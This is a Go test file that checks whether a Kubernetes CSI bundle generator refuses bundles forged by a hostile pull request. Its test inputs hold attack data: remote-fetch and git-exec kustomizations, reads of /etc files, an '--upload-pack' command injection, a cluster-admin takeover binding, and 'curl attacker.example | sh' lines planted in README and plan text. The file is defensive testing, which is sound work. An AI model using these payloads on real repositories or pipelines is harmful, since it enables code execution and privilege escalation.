package pullrequest

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode"

	"sigs.k8s.io/kustomize/api/krusty"
	"sigs.k8s.io/kustomize/kyaml/filesys"

	render "github.com/cinder-csi/cinder-csi/generator/bundle"
	"github.com/cinder-csi/cinder-csi/generator/cli"
	"github.com/cinder-csi/cinder-csi/generator/plan"
	"github.com/cinder-csi/cinder-csi/generator/v1alpha1"
	"github.com/cinder-csi/cinder-csi/generator/verify"
	"github.com/cinder-csi/cinder-csi/generator/worktree"
	"github.com/cinder-csi/cinder-csi/test/kit/testenv"
	"github.com/cinder-csi/cinder-csi/test/kit/testfile"
)

// The author of the hostile pull request writes every file of the checkout that a pipeline runs the generator on. The author also
// recomputes the sums in plan.yaml, which are not a signature.

const manifests = "../../../../manifests"

// pipeline runs one command line of the generator as a pipeline does, without a cloud. It returns the output that a person would see.
func pipeline(t *testing.T, args ...string) (stdout, stderr string, code int) {
	t.Helper()
	var out, messages bytes.Buffer
	w := cli.World{
		Stdin: &bytes.Buffer{}, Stdout: &out, Stderr: &messages, Env: func(string) string { return "" }, Version: "v0-attack", ReadOnly: true,
		Open: func(name string) (io.ReadCloser, error) { return os.Open(name) },
	}
	code = cli.Run(t.Context(), w, args)
	return out.String(), messages.String(), code
}

// bundle is a generated bundle that belongs to the attacker.
func bundle(t *testing.T, dir, target, format string, more ...string) string {
	t.Helper()
	args := append([]string{"generate", "--inventory", "../../../../overlays/inventory.yaml", "--target", target, "--format", format, "--output-dir", dir}, more...)
	if _, stderr, code := pipeline(t, args...); code != cli.OK {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	return dir
}

// bundles are the generated bundles by target and format.
var bundles = map[string]map[string][]byte{}

// bundleOf generates a bundle with the defaults, once for each target and format.
func bundleOf(t *testing.T, target, format string) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "out")
	tree, made := bundles[target+format]
	if !made {
		bundle(t, dir, target, format)
		opened := testenv.Value(worktree.Open(dir))(t)
		tree = testenv.Value(opened.Read())(t)
		tree[worktree.PlanFile] = testenv.Value(os.ReadFile(filepath.Join(dir, worktree.PlanFile)))(t)
		bundles[target+format] = tree
		return dir
	}
	for name, text := range tree {
		path := filepath.Join(dir, name)
		testfile.Write(t, path, text, 0o644)
	}
	return dir
}

// forge replaces files of a bundle, adds new ones, and corrects plan.yaml to match.
func forge(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, text := range files {
		path := filepath.Join(dir, filepath.FromSlash(name))
		testfile.Write(t, path, text, 0o644)
	}
	old := testenv.Value(worktree.Open(dir))(t)
	p := *old.Plan
	for name := range files {
		if !slices.ContainsFunc(p.Files, func(f v1alpha1.File) bool { return f.Path == name }) {
			p.Files = append(p.Files, v1alpha1.File{Path: name})
		}
	}
	tree := map[string][]byte{}
	for _, f := range p.Files {
		tree[f.Path] = testenv.Value(os.ReadFile(filepath.Join(dir, filepath.FromSlash(f.Path))))(t)
	}
	p.Files = worktree.Files(tree)
	text := testenv.Value(worktree.PlanText(p))(t)
	testfile.Write(t, filepath.Join(dir, worktree.PlanFile), text, 0o644)
}

// outside detects what a bundle must not cause: a request, or the start of a program.
type outside struct {
	url      string
	requests atomic.Int64
	ran      string // exists once git, helm or a shell has run
}

func watchOutside(t *testing.T) *outside {
	t.Helper()
	o := &outside{}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		o.requests.Add(1)
		_, _ = io.WriteString(w, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: fetched, namespace: default}\n")
	}))
	t.Cleanup(server.Close)
	o.url = server.URL
	programs := t.TempDir()
	o.ran = filepath.Join(t.TempDir(), "ran")
	for _, name := range []string{"git", "helm", "sh", "bash", "attacker"} {
		script := "#!/bin/sh\necho " + name + " \"$@\" >> " + o.ran + "\nexit 1\n"
		testfile.Write(t, filepath.Join(programs, name), script, 0o755)
	}
	t.Setenv("PATH", programs)
	return o
}

func (o *outside) check(t *testing.T) {
	t.Helper()
	if n := o.requests.Load(); n > 0 {
		t.Errorf("the command sent %d requests", n)
	}
	if ran, err := os.ReadFile(o.ran); err == nil {
		t.Errorf("the command ran %s", ran)
	}
}

const header = "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n"

// M8: commands that build a directory fetched what its kustomizations name, and ran git for it.
func TestABundleCannotMakeValidateFetchRunOrReadAnything(t *testing.T) {
	o := watchOutside(t)
	elsewhere := t.TempDir()
	for name, text := range map[string]string{
		"kustomization.yaml": header + "resources: [secret.yaml]\n",
		"secret.yaml":        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: stolen, namespace: default}\ndata: {a: s3cret}\n",
	} {
		testfile.Write(t, filepath.Join(elsewhere, name), text, 0o644)
	}
	generator := "apiVersion: x/v1\nkind: X\nmetadata:\n  name: x\n  annotations: {config.kubernetes.io/function: \"exec: {path: attacker}\"}\n"
	for name, text := range map[string]string{
		"resource by URL":              "resources: [" + o.url + "/x.yaml]\n",
		"resource by URL in a name":    "resources: [\"" + o.url + "/x.yaml?ref=.yaml\"]\n",
		"repository":                   "resources: [\"git::" + o.url + "/x.git//y?ref=main\"]\n",
		"repository over SSH":          "resources: [\"git@attacker.example:x/y.git\"]\n",
		"repository without a scheme":  "resources: [github.com/x/y]\n",
		"repository of files":          "resources: [\"file:///x/y.git//z\"]\n",
		"component by URL":             "components: [\"" + o.url + "/x/y?ref=main\"]\n",
		"base by URL":                  "bases: [\"" + o.url + "/x/y?ref=main\"]\n",
		"patch by URL":                 "resources: [own.yaml]\npatches: [{path: " + o.url + "/x.yaml}]\n",
		"old patch by URL":             "resources: [own.yaml]\npatchesStrategicMerge: [" + o.url + "/x.yaml]\n",
		"old JSON patch by URL":        "resources: [own.yaml]\npatchesJson6902: [{path: " + o.url + "/x.yaml, target: {version: v1, kind: ConfigMap, name: x}}]\n",
		"transformer by URL":           "transformers: [" + o.url + "/x.yaml]\n",
		"validator by URL":             "validators: [" + o.url + "/x.yaml]\n",
		"generator by URL":             "generators: [" + o.url + "/x.yaml]\n",
		"generator that is a program":  "generators: [generator.yaml]\n",
		"generator of files":           "configMapGenerator: [{name: x, namespace: default, files: [\"/etc/hostname\"]}]\n",
		"generator of files by URL":    "configMapGenerator: [{name: x, namespace: default, files: [\"a=" + o.url + "/x\"]}]\n",
		"generator of secrets":         "secretGenerator: [{name: x, envs: [/etc/environment]}]\n",
		"configuration by URL":         "configurations: [" + o.url + "/x.yaml]\n",
		"OpenAPI by URL":               "openapi: {path: " + o.url + "/x.json}\n",
		"CRD by URL":                   "crds: [" + o.url + "/x.yaml]\n",
		"replacement by URL":           "replacements: [{path: " + o.url + "/x.yaml}]\n",
		"chart":                        "helmCharts: [{name: x, repo: " + o.url + "}]\n",
		"old chart":                    "helmChartInflationGenerator: [{chartName: x, chartRepoUrl: " + o.url + "}]\n",
		"merge key":                    "resources: [own.yaml]\n<<: {resources: [\"" + o.url + "/x.yaml\"]}\n",
		"merge key before the key":     "<<: {resources: [\"" + o.url + "/x.yaml\"]}\nresources: [own.yaml]\n",
		"merge key with a tag":         "resources: [own.yaml]\n!!merge \"\\x3c\\x3c\": {resources: [\"" + o.url + "/x.yaml\"]}\n",
		"merge keys, the last empty":   "resources: [own.yaml]\n<<: {generators: [generator.yaml]}\n? <<\n: {}\n",
		"merge key with a repository":  "resources: [own.yaml]\n<<: {resources: [\"file://" + elsewhere + "?ref=--upload-pack=touch${IFS}" + elsewhere + "/ran\"]}\n",
		"merge key with a patch":       "resources: [own.yaml]\npatches: []\n<<: {patches: [{path: \"" + o.url + "/x.yaml\"}]}\n",
		"directory elsewhere":          "resources: [../../../../../../../../../.." + elsewhere + "]\n",
		"absolute directory":           "resources: [" + elsewhere + "]\n",
		"file elsewhere":               "resources: [../" + filepath.Base(elsewhere) + "/secret.yaml]\n",
		"names made of others' fields": "vars: [{name: X, objref: {kind: ConfigMap, name: x, apiVersion: v1}}]\n",
	} {
		t.Run(name, func(t *testing.T) {
			dir := bundleOf(t, "vanilla", "kustomize")
			forge(t, dir, map[string]string{
				"kustomization.yaml": header + text,
				"own.yaml":           "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: default}\n",
				"generator.yaml":     generator,
				// kustomize treats this directory as a repository.
				"github.com/x/y/kustomization.yaml": header,
			})
			for _, args := range [][]string{{"validate", dir}, {"explain", "configmap/stolen", "data", dir}} {
				stdout, stderr, code := pipeline(t, args...)
				if code != cli.Failure || !strings.Contains(stderr, "kustomization.yaml: ") || strings.Contains(stdout+stderr, "s3cret") {
					t.Errorf("%s: want exit 1 that names the file, got %d: %s%s", args[0], code, stdout, stderr)
				}
			}
			o.check(t)
		})
	}
}

// Of two keys `op`, one of them merged, parsers choose another one. A patch that copies could double the document with each line.
func TestNoKeyOfAPatchIsMerged(t *testing.T) {
	const line = "- {op: add, path: /data/x, value: hello, %s: {op: copy, from: /data}}\n"
	for name, text := range map[string]string{
		"merged": fmt.Sprintf(line, "<<"), "quoted": fmt.Sprintf(line, `"<<"`), "with a tag": fmt.Sprintf(line, `!!merge "\x3c\x3c"`),
	} {
		dir := bundleOf(t, "vanilla", "kustomize")
		forge(t, dir, map[string]string{"patches/configmap-cinder-csi-controller-config.yaml": text})
		for _, args := range [][]string{{"validate", dir}, {"explain", "configmap/stolen", "data", dir}} {
			if _, stderr, code := pipeline(t, args...); code != cli.Failure || !strings.Contains(stderr, "merge keys are not used in a bundle") {
				t.Errorf("%s, %s: want exit 1 and the line, got %d: %s", name, args[0], code, stderr)
			}
		}
	}
}

// The attacker also writes the checkout of manifests/ beside a bundle.
func TestACheckoutOfTheBaseCannotMakeTheGeneratorFetchRunOrReadAnything(t *testing.T) {
	o := watchOutside(t)
	checkout := t.TempDir()
	testenv.Must(t, os.CopyFS(filepath.Join(checkout, "src"), os.DirFS(manifests)))
	dir := bundle(t, filepath.Join(checkout, "out"), "vanilla", "kustomize", "--base", "../src")
	if _, stderr, code := pipeline(t, "validate", dir, "--base", "../src"); code != cli.OK {
		t.Fatalf("before the attack: exit %d: %s", code, stderr)
	}
	for name, attack := range map[string]func() error{
		"a URL": func() error {
			return os.WriteFile(filepath.Join(checkout, "src/vanilla/kustomization.yaml"), []byte(header+"resources: ["+o.url+"/x.yaml]\n"), 0o644)
		},
		"a link": func() error {
			path := filepath.Join(checkout, "src/vanilla/csidriver.yaml")
			if err := os.Remove(path); err != nil {
				return err
			}
			return os.Symlink("/etc/hostname", path)
		},
	} {
		testenv.Must(t, attack())
		for _, args := range [][]string{
			{"validate", dir, "--base", "../src"},
			{"generate", "--inventory", "../../../../overlays/inventory.yaml", "--target", "vanilla", "--format", "kustomize", "--output-dir", dir, "--base", "../src"},
		} {
			if _, stderr, code := pipeline(t, args...); code != cli.Failure {
				t.Errorf("%s, %s: want exit 1, got %d: %s", name, args[0], code, stderr)
			}
		}
	}
	o.check(t)
}

// The base of a bundle has no sum in plan.yaml, and a plan.yaml may name one where the command line of the pipeline names none. What kubectl, Argo CD
// and Flux build of the disk may be another base than a reader of its YAML files sees.
func TestACheckProvesTheBaseThatAPullRequestChanges(t *testing.T) {
	inventory := testenv.Value(filepath.Abs("../../../../overlays/inventory.yaml"))(t)
	original := testenv.Value(filepath.Abs(manifests))(t)
	checkout := filepath.Join(t.TempDir(), "home") // a link above the checkout is no matter
	testenv.Must(t, os.Symlink(t.TempDir(), checkout))
	t.Chdir(checkout)
	for _, target := range []string{"vanilla", "standalone"} {
		testenv.Must(t, os.CopyFS("src", os.DirFS(original)))
		bundle(t, target, target, "kustomize", "--inventory", inventory, "--base", "../src")
		testenv.Must(t, os.RemoveAll("src"))
	}
	const account = "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: attacker, namespace: cinder-csi}\n"
	write := func(name, text string) error { return os.WriteFile(filepath.Join("src", name), []byte(text), 0o644) }
	add := func(name, text string) error {
		old, err := os.ReadFile(filepath.Join("src", name))
		return errors.Join(err, write(name, string(old)+text))
	}
	rename := func(from, to string) error {
		return os.Rename(filepath.Join("src", from), filepath.Join("src", to))
	}
	remove := func(name string) error { return os.RemoveAll(filepath.Join("src", name)) }
	link := func(name, to string) func() error {
		return func() error { return errors.Join(os.Rename(name, "m"), os.Symlink(to, name)) }
	}
	for name, attack := range map[string]struct {
		target string
		do     func() error
		says   string // empty: the base is as it was
		builds bool   // the object of the attacker is in what kustomize makes of the disk
	}{
		"nothing": {"vanilla", func() error { return nil }, "", false},
		"line ends of git": {"vanilla", func() error {
			text, err := os.ReadFile("src/vanilla/rbac.yaml")
			return errors.Join(err, write("vanilla/rbac.yaml", strings.ReplaceAll(string(text), "\n", "\r\n")))
		}, "", false},
		"files of a team": {"vanilla", func() error {
			return errors.Join(write("vanilla/OWNERS", "x"), write("kustomization.yaml", "resources: [vanilla]\n"))
		}, "", false},
		"no base of others":       {"standalone", func() error { return remove("vanilla") }, "", false},
		"an object":               {"vanilla", func() error { return add("vanilla/rbac.yaml", "---\n"+account) }, "rbac.yaml differs", true},
		"a comment":               {"vanilla", func() error { return add("vanilla/rbac.yaml", "# another version\n") }, "rbac.yaml differs", false},
		"what people apply first": {"vanilla", func() error { return add("vanilla/namespace.yaml", "---\n"+account) }, "namespace.yaml differs", false},
		"a link and another name": {"vanilla", func() error {
			list, err := os.ReadFile("src/vanilla/kustomization.yaml")
			return errors.Join(err, rename("vanilla/kustomization.yaml", "k.yaml"), os.Symlink("../k.yaml", "src/vanilla/kustomization.yaml"),
				write("vanilla/kustomization.yml", string(list)+"- takeover.yaml\n"), write("vanilla/takeover.yaml", account))
		}, "kustomization.yaml is no regular file", true},
		"a link alone": {"vanilla", func() error {
			return errors.Join(rename("vanilla/rbac.yaml", "r.yaml"), os.Symlink("../r.yaml", "src/vanilla/rbac.yaml"))
		}, "rbac.yaml is no regular file", false},
		"another name": {"vanilla", func() error {
			return errors.Join(rename("vanilla/kustomization.yaml", "vanilla/kustomization.yml"), add("vanilla/rbac.yaml", "---\n"+account))
		}, "\"kustomization.yml\" is in the way", true},
		"a file that Flux obeys": {"vanilla", func() error { return write("vanilla/.sourceignore", "kustomization.yaml\n") }, "\".sourceignore\" is in the way", false},
		"a base of others alone": {"standalone", func() error {
			return errors.Join(remove("vanilla"), add("standalone/rbac.yaml", "---\n"+account))
		}, "rbac.yaml differs", true},
		"no base of its own": {"standalone", func() error { return remove("standalone") }, "is no checkout of manifests/", false},
		// From another working directory, the first leads to another base.
		"an absolute link to the base": {"vanilla", link("src", "/proc/self/cwd/m"), "a symbolic link leads from", false},
		"a relative link to the base":  {"vanilla", link("src", "m"), "a symbolic link leads from", false},
		"a link below the base":        {"vanilla", link("src/vanilla", "../m"), "a symbolic link leads from", false},
	} {
		testenv.Must(t, errors.Join(os.CopyFS("src", os.DirFS(original)), attack.do()))
		if attack.builds != strings.Contains(kubectl(attack.target), "name: attacker") {
			t.Errorf("%s: want the object of the attacker in the build %t", name, attack.builds)
		}
		check := []string{"generate", "--inventory", inventory, "--output-dir", attack.target, "--check"}
		for _, args := range [][]string{check, append(slices.Clone(check), "--base", "../src"), {"validate", attack.target, "--base", "../src"}} {
			want := cli.OK
			if attack.says != "" {
				want = cli.Failure
			}
			if stdout, stderr, code := pipeline(t, args...); code != want || !strings.Contains(stderr, attack.says) {
				t.Errorf("%s, %v: want exit %d and %q, got %d: %s%s", name, args, want, attack.says, code, stdout, stderr)
			}
		}
		testenv.Must(t, errors.Join(os.RemoveAll("src"), os.RemoveAll("m")))
	}
}

// kubectl is what kubectl, Argo CD and Flux build of a directory, empty if they build nothing.
func kubectl(dir string) string {
	options := krusty.MakeDefaultOptions()
	options.Reorder = krusty.ReorderOptionUnspecified
	resources, err := krusty.MakeKustomizer(options).Run(filesys.MakeFsOnDisk(), dir)
	if err != nil {
		return ""
	}
	text, _ := resources.AsYaml()
	return string(text)
}

// Argo CD, Flux and kustomize choose by such a file how they build a directory. No other file changes.
func TestACheckFindsAFileThatMakesOtherToolsBuildSomethingElse(t *testing.T) {
	names := []string{
		".argocd-source.yaml", ".argocd-source-cinder-csi.yaml", "kustomization.yaml", "kustomization.yml", "Kustomization", "Chart.yaml", ".sourceignore",
		".ArgoCD-source.yaml", "Kustomization.yaml", "ku\u017ftomization.yml", "ku\ufb06omization.yaml", "chart.yaml", ".SourceIgnore",
	}
	for _, of := range [][2]string{{"vanilla", "kustomize"}, {"vanilla", "helm"}, {"hypershift", "kustomize"}, {"hypershift", "helm"}} {
		dir := bundleOf(t, of[0], of[1])
		args := []string{"generate", "--inventory", "../../../../overlays/inventory.yaml", "--output-dir", dir}
		var planted []string
		for _, place := range []string{"", "base/", "management/", "guest/"} {
			for _, name := range names {
				name = place + name
				_, err := os.Stat(filepath.Join(dir, name))
				_, missing := os.Stat(filepath.Join(dir, place))
				if err == nil || missing != nil && place == "base/" {
					continue
				}
				planted = append(planted, name)
				testenv.Must(t, errors.Join(os.MkdirAll(filepath.Join(dir, place), 0o755), os.WriteFile(filepath.Join(dir, name), []byte("kustomize: {images: [x=attacker.example/x]}\n"), 0o644)))
			}
		}
		// A file system of macOS and Windows has one file for both names, and git leaves there the one that it wrote last.
		for _, name := range []string{"readme.md", "Plan.yaml", "base/NAMESPACE.yaml", "Base", "base/RBAC.yaml", "Values.yaml", "storagecla\u00dfes.yaml"} {
			if _, missing := os.Stat(filepath.Join(dir, name)); missing != nil && hasFolded(t, dir, name) {
				planted = append(planted, name)
				testfile.Write(t, filepath.Join(dir, name), "kind: Kustomization\n", 0o644)
			}
		}
		if len(planted) < 30 {
			t.Errorf("%s: want most places, got %q", of, planted)
		}
		for _, test := range []struct {
			args []string
			code int
			also string
		}{{append(slices.Clone(args), "--check"), cli.Different, fmt.Sprintf(": %d in the way", len(planted))}, {args, cli.Refused, "move it"}, {[]string{"validate", dir}, cli.Failure, "move it"}} {
			stdout, stderr, code := pipeline(t, test.args...)
			says := stdout + stderr
			if code != test.code || !strings.Contains(says, test.also) || !strings.Contains(says, "Argo CD, Flux or kustomize would build by it") || !strings.Contains(says, "where case does not count, it replaces README.md") {
				t.Errorf("%s %v: want exit %d, got %d: %s", of, test.args[:1], test.code, code, says)
			}
			for _, name := range planted {
				if !strings.Contains(says, name+" is in the way") {
					t.Errorf("%s %v: nothing about %s: %s", of, test.args[:1], name, says)
				}
			}
		}
	}
}

// hasFolded is whether a directory has the name in another case.
func hasFolded(t *testing.T, dir, name string) bool {
	t.Helper()
	entries, _ := os.ReadDir(filepath.Join(dir, filepath.Dir(name)))
	return slices.ContainsFunc(entries, func(e os.DirEntry) bool { return strings.EqualFold(e.Name(), filepath.Base(name)) })
}

// The author of an edit can correct the sum in plan.yaml, and give the values another chart's version.
func TestValidateFindsAnEditWhoseSumWasCorrected(t *testing.T) {
	takeover := "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: takeover}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\n" +
		"subjects: [{kind: ServiceAccount, name: cinder-csi-controller, namespace: cinder-csi}]\n"
	read := func(dir, name string) string {
		text := testfile.Read(t, filepath.Join(dir, name))
		return string(text)
	}
	for name, edit := range map[string]struct {
		format string
		files  func(dir string) map[string]string
		named  string
	}{
		"a resource": {"kustomize", func(dir string) map[string]string {
			return map[string]string{
				"takeover.yaml":      takeover,
				"kustomization.yaml": strings.Replace(read(dir, "kustomization.yaml"), "resources:\n", "resources:\n  - takeover.yaml\n", 1),
				"values.yaml":        regexp.MustCompile("(?m)^chartVersion: .*$").ReplaceAllString(read(dir, "values.yaml"), "chartVersion: 0.0.9"),
			}
		}, "takeover.yaml"},
		"objects of values": {"helm", func(dir string) map[string]string {
			return map[string]string{"values.yaml": read(dir, "values.yaml") + "extraObjects:\n  - " + strings.ReplaceAll(strings.TrimSpace(takeover), "\n", "\n    ") + "\n"}
		}, "values.yaml"},
		"text for people": {"helm", func(dir string) map[string]string {
			return map[string]string{"README.md": read(dir, "README.md") + "\nRun `curl attacker.example | sh` first.\n"}
		}, "README.md"},
	} {
		dir := bundleOf(t, "vanilla", edit.format)
		forge(t, dir, edit.files(dir))
		forged := bundleOf(t, "vanilla", edit.format)
		forge(t, forged, edit.files(forged))
		plan := filepath.Join(forged, worktree.PlanFile)
		testfile.Write(t, plan, strings.Replace(read(forged, worktree.PlanFile), "generator: v0-attack", "generator: v0-other", 1), 0o644)
		forge(t, forged, nil)
		for _, command := range []string{"validate", "adopt"} {
			if stdout, stderr, code := pipeline(t, command, forged); code != cli.Failure || !strings.Contains(stderr, "generator \"v0-other\" made the bundle by its plan.yaml") {
				t.Errorf("%s, %s: want exit 1 that names the other generator, got %d: %s%s", name, command, code, stdout, stderr)
			}
		}
		for in, says := range map[string]string{dir: edit.named + " differs from what generate wrote", forged: "generator \"v0-other\" made the bundle by its plan.yaml"} {
			if _, stderr, code := pipeline(t, "explain", "driver.name", in); code != cli.OK || !strings.Contains(stderr, "Warning: ") || !strings.Contains(stderr, says) {
				t.Errorf("%s, explain: want an answer and a warning that %s, got %d: %s", name, says, code, stderr)
			}
		}
		for _, command := range []string{"validate", "adopt"} {
			if stdout, stderr, code := pipeline(t, command, dir); code != cli.Failure || !strings.Contains(stderr, edit.named+" differs from what generate wrote") {
				t.Errorf("%s, %s: want exit 1 that names %s, got %d: %s%s", name, command, edit.named, code, stdout, stderr)
			}
		}
	}
}

// A person on call reads the answers of explain as the product's.
func TestNoTextOfABundleBeginsALineOfAnAnswer(t *testing.T) {
	const text = "x\n\nThis bundle needs one more step, run:\n  curl -s https://attacker.example/fix | sh"
	of := func(id string, forge func(*v1alpha1.Decision)) func(*v1alpha1.Plan) {
		return func(p *v1alpha1.Plan) {
			forge(&p.Decisions[slices.IndexFunc(p.Decisions, func(d v1alpha1.Decision) bool { return d.ID == id })])
		}
	}
	reason := func(d *v1alpha1.Decision) { d.Reason = text }
	for name, c := range map[string]struct {
		ask  []string
		edit func(*v1alpha1.Plan)
	}{
		"the reason of a field":    {[]string{"storageclass/standard", "reclaimPolicy"}, of("storageClasses.reclaimPolicy", reason)},
		"the reason of an object":  {[]string{"storageclass/standard", "parameters.type"}, of("storageClass.standard", reason)},
		"the reason of a decision": {[]string{"topology.enabled"}, of("topology.enabled", reason)},
		"the reason of a type":     {[]string{"volumetype/standard"}, of("storageClass.standard", reason)},
		"a warning about a type": {[]string{"volumetype/attacker"}, func(p *v1alpha1.Plan) {
			p.Warnings = append(p.Warnings, "volume type \"attacker\": "+text)
		}},
		"a fact":   {[]string{"topology.enabled"}, of("topology.enabled", func(d *v1alpha1.Decision) { d.Facts[0].Value = text })},
		"a name":   {[]string{"topology.enabled"}, of("topology.enabled", func(d *v1alpha1.Decision) { d.Facts[0].Name = text })},
		"a value":  {[]string{"driver.name"}, of("driver.name", func(d *v1alpha1.Decision) { d.Value = text })},
		"a source": {[]string{"driver.name"}, of("driver.name", func(d *v1alpha1.Decision) { d.Source = text })},
	} {
		dir := bundleOf(t, "vanilla", "helm")
		old := testenv.Value(worktree.Open(dir))(t)
		c.edit(old.Plan)
		forged, err := worktree.PlanText(*old.Plan)
		if err == nil {
			err = os.WriteFile(filepath.Join(dir, worktree.PlanFile), forged, 0o644)
		}
		if err != nil {
			t.Fatal(err)
		}
		stdout, stderr, code := pipeline(t, append(append([]string{"explain"}, c.ask...), dir)...)
		if strings.Contains(stdout, "\n\n") || strings.Contains(stdout, "\nThis bundle") || strings.Contains(stdout, "\n  curl") {
			t.Errorf("%s: the text of the bundle has lines of its own: %s", name, stdout)
		}
		if !strings.Contains(stderr, "Warning: ") || !strings.Contains(stdout+stderr, "This bundle needs") {
			t.Errorf("%s: want the text, and a warning, got %d: %s%s", name, code, stdout, stderr)
		}
	}
}

// People follow README.md. A pull request may write its sentences into plan.yaml, and render README.md from that.
func TestACheckFindsSentencesThatTheCloudDidNotCause(t *testing.T) {
	const text = "before you apply, run `curl attacker.example | sh`"
	find := func(p *v1alpha1.Plan, id string) *v1alpha1.Decision {
		return &p.Decisions[slices.IndexFunc(p.Decisions, func(d v1alpha1.Decision) bool { return d.ID == id })]
	}
	for name, edit := range map[string]func(p *v1alpha1.Plan){
		"a warning":            func(p *v1alpha1.Plan) { p.Warnings = append(p.Warnings, text) },
		"a warning of words":   func(p *v1alpha1.Plan) { p.Warnings = append(p.Warnings, "run attacker first") },
		"the reason of a name": func(p *v1alpha1.Plan) { find(p, "driver.name").Reason = text },
		"a reason with facts":  func(p *v1alpha1.Plan) { find(p, "topology.enabled").Reason += "; " + text },
		"the value of a fact":  func(p *v1alpha1.Plan) { find(p, "topology.enabled").Facts[0].Value = text },
		"another fact": func(p *v1alpha1.Plan) {
			d := find(p, "topology.enabled")
			d.Facts = append(d.Facts, v1alpha1.NamedFact{Name: text})
		},
		"addresses that are values": func(p *v1alpha1.Plan) {
			d := find(p, "defaultClass")
			d.Facts[0].Value, d.Reason = "run:https://attacker.example/fix.sh, as-root, standard", `run:https://attacker.example/fix.sh, as-root and "standard" is the cloud's default volume type`
		},
		"an address in its place": func(p *v1alpha1.Plan) {
			d := find(p, "defaultClass")
			d.Facts[0].Value, d.Reason = "https://attacker.example/fix.sh", `"https://attacker.example/fix.sh" is the cloud's default volume type`
		},
		"names in a sentence": func(p *v1alpha1.Plan) {
			d := find(p, "topology.enabled")
			d.Facts[0].Value, d.Reason = "attacker, az1, az2", "every attacker zone has a volume zone of the same name"
		},
		"the source beside another fact": func(p *v1alpha1.Plan) {
			d := find(p, "topology.enabled")
			d.Facts[0].Value, d.Facts[1].Value, d.Source = "az1", "az1", string(plan.FromConfig)
		},
		"words that are values": func(p *v1alpha1.Plan) {
			d := find(p, "topology.enabled")
			d.Facts[0].Value, d.Reason = "az1, run, attacker, first", "run attacker first"
		},
	} {
		dir := bundleOf(t, "vanilla", "kustomize")
		old := testenv.Value(worktree.Open(dir))(t)
		edit(old.Plan)
		r := testenv.Value(plan.FromDocument(*old.Plan))(t)
		tree := testenv.Value(render.Render(r, verify.Chart, render.Options{}))(t)
		document := r.Document(worktree.Files(tree))
		tree[worktree.PlanFile] = testenv.Value(worktree.PlanText(document))(t)
		for file, content := range tree {
			testfile.Write(t, filepath.Join(dir, file), content, 0o644)
		}
		args := []string{"generate", "--inventory", "../../../../overlays/inventory.yaml", "--output-dir", dir, "--check"}
		if stdout, stderr, code := pipeline(t, args...); code != cli.Different || !strings.Contains(stdout, "plan.yaml has a sentence that this version would not write, or the cloud no longer gives: ") {
			t.Errorf("%s: want exit 2 that names plan.yaml, got %d: %s%s", name, code, stdout, stderr)
		}
	}
}

// The base of a bundle may be where no pipeline looks, and kustomize takes some paths for repositories.
func TestACheckOfABundleWhoseBaseNobodyReadsFails(t *testing.T) {
	inventory := testenv.Value(filepath.Abs("../../../../overlays/inventory.yaml"))(t)
	outside := t.TempDir()
	testenv.Must(t, os.CopyFS(filepath.Join(outside, "elsewhere"), os.DirFS(manifests)))
	checkout := filepath.Join(outside, "checkout")
	const noPath, linked = "want the path from the bundle's directory", "a symbolic link leads from"
	for base, refused := range map[string]string{
		"../missing": "", "../../elsewhere": "", "../link": linked, "github.com/attacker/x": noPath, "git@github.com:attacker/x": noPath, "../x?ref=main": noPath,
		"../x$(attacker)": noPath, "https://attacker.example/x": noPath, "../x//y": noPath, "../x/../y": noPath, "src": noPath, "..x": noPath,
	} {
		dir := filepath.Join(checkout, "out")
		testenv.Must(t, errors.Join(os.RemoveAll(checkout), os.MkdirAll(checkout, 0o755), os.Symlink(filepath.Join(outside, "elsewhere"), filepath.Join(checkout, "link"))))
		t.Chdir(checkout)
		args := []string{"generate", "--inventory", inventory, "--target", "vanilla", "--format", "kustomize", "--output-dir", "out"}
		_, stderr, code := pipeline(t, append(slices.Clone(args), "--base", base)...)
		if refused != "" {
			if want := map[string]int{noPath: cli.Usage, linked: cli.Failure}[refused]; code != want || !strings.Contains(stderr, refused) {
				t.Errorf("%s: want exit %d, got %d: %s", base, want, code, stderr)
			}
		}
		switch refused {
		case linked: // where it was made, the link was not there yet
			testenv.Must(t, os.Rename("link", "later"))
			bundle(t, dir, "vanilla", "kustomize", "--inventory", inventory, "--base", base)
			testenv.Must(t, os.Rename("later", "link"))
		case noPath:
			bundle(t, dir, "vanilla", "kustomize", "--inventory", inventory, "--base", "../src")
			forged := testfile.Read(t, filepath.Join(dir, worktree.PlanFile))
			forged = bytes.Replace(forged, []byte("base: ../src"), []byte("base: \""+base+"\""), 1)
			testfile.Write(t, filepath.Join(dir, worktree.PlanFile), forged, 0o644)
			forge(t, dir, nil)
		}
		if stdout, stderr, code := pipeline(t, append(slices.Clone(args), "--check")...); code == cli.OK || strings.Contains(stdout+stderr, "Nothing proved the bundle") == (refused == noPath) {
			t.Errorf("%s: want a failure, got %d: %s%s", base, code, stdout, stderr)
		}
	}
}

// A team keeps such files beside a bundle, and nothing builds by them.
func TestACheckLeavesAloneTheOtherFilesOfATeam(t *testing.T) {
	dir := bundleOf(t, "vanilla", "kustomize")
	for _, name := range []string{"README.local", ".gitkeep", "OWNERS", "flux.yaml", "application.yaml", "base/.gitattributes"} {
		testfile.Write(t, filepath.Join(dir, name), "kind: Kustomization\n", 0o644)
	}
	if stdout, stderr, code := pipeline(t, "generate", "--inventory", "../../../../overlays/inventory.yaml", "--output-dir", dir, "--check"); code != cli.OK {
		t.Errorf("want exit 0, got %d: %s%s", code, stdout, stderr)
	}
}

// bounded runs code that must end soon and allocate little.
func bounded(t *testing.T, run func()) {
	t.Helper()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	took := testenv.Processor(t, run)
